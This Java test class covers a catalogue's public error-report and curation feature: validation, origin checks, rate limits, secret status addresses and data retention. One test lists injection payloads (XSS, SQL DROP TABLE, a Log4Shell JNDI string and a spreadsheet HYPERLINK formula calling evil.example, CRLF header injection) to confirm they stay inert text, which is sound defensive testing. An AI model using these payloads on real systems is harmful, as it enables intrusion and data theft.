package be.digicatalogue.report;

import static io.restassured.RestAssured.given;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.not;
import static org.hamcrest.Matchers.nullValue;
import static org.hamcrest.Matchers.startsWith;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import be.digicatalogue.ApiTest;
import be.digicatalogue.EmbeddedDatabaseResource;
import be.digicatalogue.Sql;
import be.digicatalogue.TestClock;
import be.digicatalogue.publication.Curating;
import io.quarkus.test.junit.QuarkusTest;
import io.quarkus.test.junit.QuarkusTestProfile;
import io.quarkus.test.junit.TestProfile;
import io.restassured.RestAssured;
import io.restassured.config.EncoderConfig;
import io.restassured.response.Response;
import io.restassured.specification.RequestSpecification;
import jakarta.inject.Inject;
import java.nio.file.Files;
import java.sql.SQLException;
import java.util.HashMap;
import java.util.HashSet;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeSet;
import java.util.concurrent.atomic.AtomicInteger;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** From somebody who sees a mistake, over the curator who decides, back to the one who saw it. */
@QuarkusTest
@TestProfile(ReportTest.UsualLimits.class)
class ReportTest extends ApiTest {

    private static final String POINT = "beernem-bibliotheek";
    private static final int PER_CLIENT = 5;
    private static final int PER_RECORD = 20;
    private static final AtomicInteger CLIENTS = new AtomicInteger();

    /** The limits of an operator who sets none. */
    public static class UsualLimits implements QuarkusTestProfile {
        @Override
        public Map<String, String> getConfigOverrides() {
            var settings = new HashMap<>(new Curating().getConfigOverrides());
            settings.put("catalogue.reports.per-client", String.valueOf(PER_CLIENT));
            settings.put("catalogue.privacy.controller", "Stad Voorbeeld, Markt 1, 9000 Gent");
            return settings;
        }
    }

    @Inject
    Retention retention;

    @BeforeEach
    void forgetEarlierReports() throws SQLException {
        Sql.commit(Sql.server(), "DELETE FROM report");
    }

    @AfterEach
    void letTheClockGoOn() {
        TestClock.goOn();
    }

    @Test
    void aReportIsAcceptedWithACorrectionAndTheReporterSeesIt() {
        var before = get("/v1/service-points/" + POINT);
        long revision = get("/v1").getLong("revision");
        var address =
                reported(report("wrong", "field", "phone", "message", "Dit nummer is fout.", "suggestion", "050"));
        assertEquals("received", state(address).path("status"));
        assertNull(state(address).path("reply"));
        assertEquals(revision, get("/v1").getLong("revision"), "a report is no part of a revision");

        var listed = desk().get("/admin/v1/reports?status=received")
                .then()
                .statusCode(200)
                .extract();
        assertEquals(1, listed.jsonPath().getInt("total"));
        int number = listed.jsonPath().getInt("items[0].number");
        assertEquals("Dit nummer is fout.", listed.path("items[0].message"));
        assertEquals(POINT, listed.path("items[0].record.id"));
        assertEquals("public", listed.path("items[0].origin"));
        var one =
                desk().get("/admin/v1/reports/" + number).then().statusCode(200).extract();

        var decided = desk().contentType("application/json")
                .header("If-Match", one.header("ETag"))
                .body("""
                        {"status": "accepted", "reply": "Dank u, het is verbeterd.", "edit": {"phone": "+3250792100"}}""")
                .patch("/admin/v1/reports/" + number)
                .then()
                .statusCode(200)
                .body("status", equalTo("accepted"))
                .body("closedBy", equalTo("piet"))
                .extract();
        assertEquals(revision + 1, decided.jsonPath().getLong("revision"));
        assertEquals(String.valueOf(revision + 1), decided.header("Catalogue-Revision"));
        assertNotEquals(one.header("ETag"), decided.header("ETag"));
        eventually(() ->
                get("/v1/service-points/" + POINT).get("phone") instanceof String phone && phone.equals("+3250792100"));
        assertNotEquals(
                before.getString("phone"), get("/v1/service-points/" + POINT).getString("phone"));
        assertEquals(List.of(POINT), get("/v1/changes?since=" + revision).getList("items.id"));
        assertEquals("accepted", state(address).path("status"));
        assertEquals("Dank u, het is verbeterd.", state(address).path("reply"));
        assertTrue(page(address.replace("/v1/reports/", "/melding/")).text().contains("Dank u, het is verbeterd."));

        // Who read it before the decision must not undo it.
        desk().contentType("application/json")
                .header("If-Match", one.header("ETag"))
                .body("{\"status\": \"declined\"}")
                .patch("/admin/v1/reports/" + number)
                .then()
                .statusCode(412);
        assertEquals("accepted", state(address).path("status"));
    }

    @Test
    void aCorrectionThatTheChecksRefuseLeavesTheReportOpen() {
        var address = reported(report("wrong"));
        long revision = get("/v1").getLong("revision");
        int number = number();
        decide(number, "{\"status\": \"accepted\", \"edit\": {\"openingHours\": \"whenever\"}}")
                .then()
                .statusCode(400)
                .body("issues[0].name", equalTo("openingHours"));
        decide(number, "{\"status\": \"declined\", \"edit\": {\"phone\": \"+3250792101\"}}")
                .then()
                .statusCode(400)
                .body("issues[0].name", equalTo("edit"));
        decide(number, "{\"status\": \"perhaps\"}").then().statusCode(400).body("issues[0].name", equalTo("status"));
        decide(number, "{}").then().statusCode(400).body("issues[0].name", equalTo("status"));
        decide(number, "{\"status\": \"accepted\", \"edit\": {\"id\": \"other\"}}")
                .then()
                .statusCode(400);
        assertEquals("received", state(address).path("status"));
        assertEquals(revision, get("/v1").getLong("revision"));
        desk().contentType("application/json")
                .body("{\"status\": \"declined\"}")
                .patch("/admin/v1/reports/" + number)
                .then()
                .statusCode(428);
        // An edit that changes nothing publishes nothing, but the decision holds.
        decide(number, "{\"status\": \"accepted\", \"edit\": {}}")
                .then()
                .statusCode(200)
                .body("revision", nullValue());
        assertEquals("accepted", state(address).path("status"));
        decide(number, "{\"status\": \"received\"}").then().statusCode(200).body("closedAt", nullValue());
        assertEquals("received", state(address).path("status"));
        given().get("/admin/v1/reports").then().statusCode(401);
        desk().get("/admin/v1/reports/999999").then().statusCode(404);
        desk().get("/admin/v1/reports?status=closed").then().statusCode(400);
    }

    @Test
    void theFormWorksWithoutScriptAndKeepsWhatWasTyped() {
        for (var language : List.of("", "/fr", "/de", "/en")) {
            var record = page(language + "/digibanken/" + POINT);
            var link = record.select("a[href*='/melden?']").first().attr("href");
            assertEquals(language + "/melden?type=service-points&id=" + POINT, link);
            var form = page(link).selectFirst("form.report");
            assertEquals("post", form.attr("method"));
            var fields = new LinkedHashMap<String, String>();
            form.select("input[type=hidden]").forEach(input -> fields.put(input.attr("name"), input.val()));
            fields.put("problem", "closed");
            fields.put("field", "");
            fields.put("message", "Gesloten <script>alert(1)</script>\r\nsinds maart 👍🏽 ❤️");
            fields.put("suggestion", "  ");
            var wrong = client().formParam("message", "x".repeat(1001) + "ä")
                    .formParam("type", "service-points")
                    .formParam("id", POINT)
                    .formParam("problem", "wrong")
                    .formParam("suggestion", "onthoud mij")
                    .post(form.attr("action"))
                    .then()
                    .statusCode(400)
                    .contentType("text/html")
                    .header("Cache-Control", "private, no-store")
                    .extract();
            var again = Jsoup.parse(wrong.asString());
            assertEquals("x".repeat(1001) + "ä", again.selectFirst("textarea").text());
            assertEquals(
                    "onthoud mij", again.selectFirst("input[name=suggestion]").val());
            assertTrue(again.selectFirst("input[value=wrong]").hasAttr("checked"));
            assertFalse(again.selectFirst(".wrong li").text().isBlank());
            assertTrue(again.select("nav.languages a").eachAttr("href").stream()
                    .noneMatch(other -> other.contains("onthoud")));
            var sent = client().formParams(fields)
                    .post(form.attr("action"))
                    .then()
                    .statusCode(303)
                    .header("Location", startsWith(language + "/melding/"))
                    .header("Cache-Control", "private, no-store")
                    .extract();
            var status = page(sent.header("Location"));
            assertEquals("received", status.selectFirst("#status").attr("data-status"));
            assertEquals("noindex", status.selectFirst("meta[name=robots]").attr("content"));
            assertEquals(
                    "Gesloten <script>alert(1)</script>\nsinds maart 👍🏽 ❤️",
                    desk().get("/admin/v1/reports").path("items[0].message"));
        }
        client().formParam("problem", "missing")
                .formParam("type", "service-points")
                .formParam("message", "De bibliotheek van Aartselaar")
                .post("/melden")
                .then()
                .statusCode(303);
        given().accept("text/html")
                .get("/melden?type=service-points&id=nowhere")
                .then()
                .statusCode(404);
        given().accept("text/html").get("/melden?type=nothing").then().statusCode(404);
        given().contentType("application/json")
                .body("{}")
                .post("/melden")
                .then()
                .statusCode(415);
    }

    @ParameterizedTest
    @CsvSource({"Sec-Fetch-Site, cross-site", "Sec-Fetch-Site, same-site", "Origin, https://elsewhere.example"})
    void noOtherSiteHasItsVisitorsReport(String header, String value) {
        client().header(header, value)
                .formParam("problem", "closed")
                .formParam("type", "service-points")
                .formParam("id", POINT)
                .post("/melden")
                .then()
                .statusCode(403);
        given().header("Origin", "https://elsewhere.example")
                .header("Access-Control-Request-Method", "POST")
                .options("/v1/reports")
                .then()
                .header("Access-Control-Allow-Methods", nullValue())
                .header("Access-Control-Allow-Origin", nullValue());
        assertEquals(0, desk().get("/admin/v1/reports").jsonPath().getInt("total"));
    }

    @Test
    void aSecretAddressIsForNobodyElse() throws Exception {
        var address = reported(report("closed"));
        var token = address.substring(address.lastIndexOf('/') + 1);
        assertTrue(token.matches("[A-Za-z0-9_-]{43}"), "256 bits");
        for (var secret : List.of(
                "/v1/reports/" + token,
                "/melding/" + token,
                "/fr/melding/" + token,
                "/v1/reports/" + token + "x",
                "/v1/reports/" + token + "/x",
                "/v1/%72eports/" + token,
                "/v1//reports/" + token,
                "/v1/reports;a=b/" + token,
                "/melding/" + token + "/",
                "/en/melding/a" + token)) {
            for (var method : List.of("GET", "HEAD", "POST", "DELETE", "OPTIONS")) {
                for (var accept : List.of("text/html", "application/json")) {
                    var answer = given().urlEncodingEnabled(false)
                            .accept(accept)
                            .redirects()
                            .follow(false)
                            .request(method, secret);
                    var what = method + " " + secret + " " + answer.statusCode();
                    assertEquals("private, no-store", answer.header("Cache-Control"), what);
                    assertEquals("no-referrer", answer.header("Referrer-Policy"), what);
                    assertEquals("noindex", answer.header("X-Robots-Tag"), what);
                    assertNull(answer.header("ETag"), what);
                    assertNull(answer.header("Access-Control-Allow-Origin"), what);
                    // The page itself names its own address, and nothing else does.
                    if (!accept.equals("text/html") && answer.statusCode() != 200) {
                        assertFalse(answer.asString().contains(token), what);
                    }
                }
            }
        }
        given().redirects().follow(false).get("/v1/reports/" + token).then().statusCode(200);
        eventually(() -> log().contains("/melding/*") && log().contains("/v1/reports/*"));
        assertFalse(log().contains(token.substring(2, 30)));
        assertFalse(given().get("/q/metrics").asString().contains(token.substring(2, 30)));
    }

    @Test
    void unknownSpentAndExpiredAddressesHaveOneAnswer() throws SQLException {
        var address = reported(report("closed"));
        var token = address.substring(address.lastIndexOf('/') + 1);
        var answers = new HashSet<String>();
        var random = new Random(7);
        for (int i = 0; i < 200; i++) {
            var forged = i % 2 == 0
                    ? SecretToken.random().text()
                    : altered(token, random.nextInt(token.length()), (char) ('a' + random.nextInt(26)));
            if (!forged.equals(token)) {
                answers.add(unknown("/v1/reports/" + forged));
            }
        }
        answers.add(unknown("/v1/reports/x"));
        // A back-up that is restored is another table.
        Sql.commit(Sql.server(), "UPDATE report SET token_home = '1-2-3'");
        answers.add(unknown("/v1/reports/" + token));
        Sql.commit(Sql.server(), "UPDATE report SET token_home = secret_home()");
        assertEquals("received", state(address).path("status"));
        Sql.commit(Sql.server(), "SELECT void_secret_addresses()");
        answers.add(unknown("/v1/reports/" + token));
        assertEquals(1, answers.size(), answers::toString);
    }

    private static String altered(String token, int at, char to) {
        return token.substring(0, at) + to + token.substring(at + 1);
    }

    private static String unknown(String address) {
        return rest().get(address).then().statusCode(404).extract().asString();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "\\u0000",
                "\\u0007bell",
                "a\\u202eb",
                "a\\u2066b",
                "zero\\u200bwidth",
                "\\ufeffmark",
                "\\ud800",
                "\\u009b2J",
                "escape \\u001b[31m"
            })
    void charactersThatNobodySeesAreRefused(String text) {
        for (var field : List.of("message", "suggestion")) {
            client().contentType("application/json")
                    .body("{\"type\":\"service-points\",\"id\":\"" + POINT + "\",\"problem\":\"wrong\",\"" + field
                            + "\":\"" + text + "\"}")
                    .post("/v1/reports")
                    .then()
                    .statusCode(400)
                    .body("issues.name", equalTo(List.of(field)));
        }
        assertEquals(0, desk().get("/admin/v1/reports").jsonPath().getInt("total"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "\"><img src=x onerror=alert(1)>",
                "=HYPERLINK(\"http://evil.example\")",
                "{visit.base}{/if}",
                "'; DROP TABLE report; --",
                "${jndi:ldap://evil.example}",
                "%0d%0aSet-Cookie: a=b"
            })
    void whatLooksLikeCodeStaysText(String text) {
        var address = reported(report("wrong", "message", text, "suggestion", text));
        int number = number();
        assertEquals(text, desk().get("/admin/v1/reports/" + number).path("message"));
        decide(
                        number,
                        new io.vertx.core.json.JsonObject()
                                .put("status", "declined")
                                .put("reply", text)
                                .encode())
                .then()
                .statusCode(200);
        assertEquals(text, state(address).path("reply"));
        var page = page(address.replace("/v1/reports/", "/melding/"));
        assertEquals(text, page.selectFirst(".typed").text());
        assertTrue(page.select("script:not([src]), img").isEmpty());
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '"',
            value = {
                "{}|problem type id",
                "{'type':'service-points','problem':'wrong'}|id",
                "{'type':'service-points','id':'nowhere','problem':'wrong'}|id",
                "{'type':'nothing','id':'x','problem':'wrong'}|type",
                "{'type':'service-points','id':'beernem-bibliotheek','problem':'late'}|problem",
                "{'type':'service-points','id':'beernem-bibliotheek','problem':'missing'}|id",
                "{'type':'service-points','id':'beernem-bibliotheek','problem':'wrong','field':'colour'}|field",
                "{'type':'service-points','id':'beernem-bibliotheek','problem':'wrong','name':'Jan'}|name",
                "{'type':'service-points','id':'beernem-bibliotheek','problem':'wrong','message':''}|message",
                "{'type':'service-points','id':'beernem-bibliotheek','problem':'wrong','message':7}|message",
                "{'type':'service-points','id':null,'problem':'wrong'}|id",
                "[]|",
                "{|",
            })
    void whatIsNoReportIsRefusedByName(String body, String names) {
        var answer = client().contentType("application/json")
                .body(body.replace('\'', '"'))
                .post("/v1/reports")
                .then()
                .statusCode(400)
                .contentType("application/problem+json")
                .header("Cache-Control", "private, no-store")
                .extract();
        if (names != null) {
            assertEquals(List.of(names.split(" ")), answer.path("issues.name"));
            assertEquals("body", answer.path("issues[0].in"));
        }
        assertEquals(0, desk().get("/admin/v1/reports").jsonPath().getInt("total"));
    }

    @Test
    void eachClientAndEachRecordHasItsLimit() {
        var client = address();
        for (int i = 0; i < PER_CLIENT; i++) {
            send(client, report("closed")).then().statusCode(201);
        }
        send(client, report("closed"))
                .then()
                .statusCode(429)
                .contentType("application/problem+json")
                .header("Retry-After", seconds -> Integer.valueOf(seconds) > 60, equalTo(true));
        int open = PER_CLIENT;
        while (open < PER_RECORD) {
            var next = address();
            for (int i = 0; i < PER_CLIENT && open < PER_RECORD; i++, open++) {
                send(next, report("closed")).then().statusCode(201);
            }
        }
        var another = address();
        for (int i = 0; i < 2 * PER_CLIENT; i++) {
            // A report that is not stored does not count against its client.
            send(another, report("closed")).then().statusCode(429).body("detail", containsString("20"));
        }
        send(another, Map.of("type", "voka-offices", "id", "voka-gent", "problem", "closed"))
                .then()
                .statusCode(201);
    }

    @Test
    void withTheDatabaseAwayNothingIsPretendedAndTheTextStays() {
        var address = reported(report("closed"));
        EmbeddedDatabaseResource.stopDatabase();
        try {
            send(address(), report("closed"))
                    .then()
                    .statusCode(503)
                    .contentType("application/problem+json")
                    .header("Retry-After", Integer::parseInt, not(equalTo(0)));
            rest().get(address).then().statusCode(503);
            var form = Jsoup.parse(client().formParam("type", "service-points")
                    .formParam("id", POINT)
                    .formParam("problem", "closed")
                    .formParam("message", "Wat ik typte")
                    .post("/melden?type=service-points&id=" + POINT)
                    .then()
                    .statusCode(503)
                    .header("Retry-After", Integer::parseInt, not(equalTo(0)))
                    .extract()
                    .asString());
            assertEquals("Wat ik typte", form.selectFirst("textarea").text());
            assertTrue(form.selectFirst("input[value=closed]").hasAttr("checked"));
            given().get("/v1/service-points/" + POINT).then().statusCode(200);
        } finally {
            EmbeddedDatabaseResource.startDatabase();
        }
        eventually(() -> given().get(address).statusCode() == 200);
        eventually(() -> send(address(), report("closed")).statusCode() == 201);
    }

    @Test
    void whatIsNotKeptAnyLongerIsRemoved() throws Exception {
        TestClock.stopAt("2027-01-01T12:00:00");
        var closed = reported(report("wrong", "message", "Weg na 90 dagen", "suggestion", "ook weg"));
        int number = number();
        decide(number, "{\"status\": \"accepted\", \"reply\": \"Weg na 180 dagen\"}")
                .then()
                .statusCode(200);
        var open = reported(report("wrong", "message", "Blijft"));

        TestClock.stopAt("2027-04-01T11:59:59");
        assertEquals(0, forget());
        TestClock.stopAt("2027-04-01T13:00:01");
        assertEquals(1, forget());
        var kept = desk().get("/admin/v1/reports/" + number);
        assertNull(kept.path("message"));
        assertNull(kept.path("suggestion"));
        assertEquals("Weg na 180 dagen", state(closed).path("reply"));

        TestClock.stopAt("2027-07-01T12:00:01");
        // The address has expired, even before the job has run.
        rest().get(closed).then().statusCode(404);
        assertEquals(1, forget());
        assertNull(desk().get("/admin/v1/reports/" + number).path("reply"));
        assertEquals(0, count("token_hash IS NOT NULL AND status <> 'received'"));
        assertEquals("received", state(open).path("status"));
        assertEquals(1, count("message = 'Blijft'"));
        assertEquals(0, forget());
    }

    private int forget() {
        return retention.run().await().indefinitely();
    }

    /** Each column of the table is named, so that nothing is kept which the page does not tell. */
    @Test
    void thePageOfPrivacyTellsOfEveryColumn() throws SQLException {
        var columns = new TreeSet<String>();
        try (var connection = Sql.server();
                var statement = connection.createStatement();
                var rows = statement.executeQuery(
                        "SELECT column_name FROM information_schema.columns WHERE table_name = 'report'")) {
            while (rows.next()) {
                columns.add(rows.getString(1));
            }
        }
        assertTrue(columns.size() > 10, columns::toString);
        for (var language : List.of("", "/fr", "/de", "/en")) {
            var page = page(language + "/privacy");
            assertEquals(columns, new TreeSet<>(page.select("#report tbody th").eachText()));
            assertTrue(page.select("#report td").eachText().stream().noneMatch(String::isBlank));
            assertTrue(page.text().contains("Stad Voorbeeld, Markt 1, 9000 Gent"));
            assertTrue(page.text().contains("90") && page.text().contains("180"));
        }
    }

    @Test
    void everyCardAndRecordHasTheLink() {
        for (var address : List.of("/?place=9000", "/digihubs/limburg", "/lijst/44021")) {
            var page = page(address);
            var items = page.select(".points > li, article.card");
            assertFalse(items.isEmpty());
            items.forEach(item ->
                    assertEquals(1, item.select("a[href*='/melden?type=']").size(), address));
        }
        for (var address : List.of("/voka/voka-gent", "/partners/vives", "/digihubs/limburg", "/digibanken/" + POINT)) {
            assertFalse(page(address).select("a[href*='/melden?type=']").isEmpty(), address);
        }
        assertFalse(page("/").select("footer a[href=/melden]").isEmpty());
        assertTrue(given().get("/embed/v1.js").asString().contains("/melden"));
    }

    private static Map<String, String> report(String problem, String... more) {
        var report = new LinkedHashMap<>(Map.of("type", "service-points", "id", POINT, "problem", problem));
        for (int i = 0; i < more.length; i += 2) {
            report.put(more[i], more[i + 1]);
        }
        return report;
    }

    private static String address() {
        int next = CLIENTS.incrementAndGet();
        return "198.51." + next / 250 + "." + (next % 250 + 1);
    }

    /** Somebody who has reported nothing yet. */
    private static RequestSpecification client() {
        return given().redirects()
                .follow(false)
                .header("X-Forwarded-For", address())
                .accept("text/html, application/json;q=0.9")
                .config(RestAssured.config()
                        .encoderConfig(EncoderConfig.encoderConfig().defaultContentCharset("UTF-8")));
    }

    private static Response send(String client, Map<String, String> report) {
        return rest().header("X-Forwarded-For", client)
                .contentType("application/json")
                .body(report)
                .post("/v1/reports");
    }

    /** The path of the secret address of a new report. */
    private static String reported(Map<String, String> report) {
        var location = send(address(), report)
                .then()
                .statusCode(201)
                .body("status", equalTo("received"))
                .header("Cache-Control", "private, no-store")
                .header("ETag", nullValue())
                .header("Access-Control-Allow-Origin", nullValue())
                .extract()
                .header("Location");
        assertTrue(location.startsWith(RestAssured.baseURI), location);
        return location.substring(location.indexOf("/v1/reports/"));
    }

    private static Response state(String address) {
        return rest().get(address).then().statusCode(200).extract().response();
    }

    private static RequestSpecification desk() {
        return rest().header("Authorization", "Bearer " + Curating.PUBLISHER);
    }

    private static int number() {
        return desk().get("/admin/v1/reports").path("items[0].number");
    }

    private static Response decide(int number, String decision) {
        return desk().contentType("application/json")
                .header("If-Match", desk().get("/admin/v1/reports/" + number).header("ETag"))
                .body(decision)
                .patch("/admin/v1/reports/" + number);
    }

    private static int count(String condition) throws SQLException {
        try (var connection = Sql.server();
                var statement = connection.createStatement();
                var rows = statement.executeQuery("SELECT count(*) FROM report WHERE " + condition)) {
            rows.next();
            return rows.getInt(1);
        }
    }

    private static String log() {
        try {
            return Files.readString(Curating.LOG);
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    private static Document page(String address) {
        return Jsoup.parse(given().urlEncodingEnabled(false)
                .accept("text/html")
                .get(address)
                .then()
                .statusCode(200)
                .contentType("text/html;charset=UTF-8")
                .extract()
                .asString());
    }
}
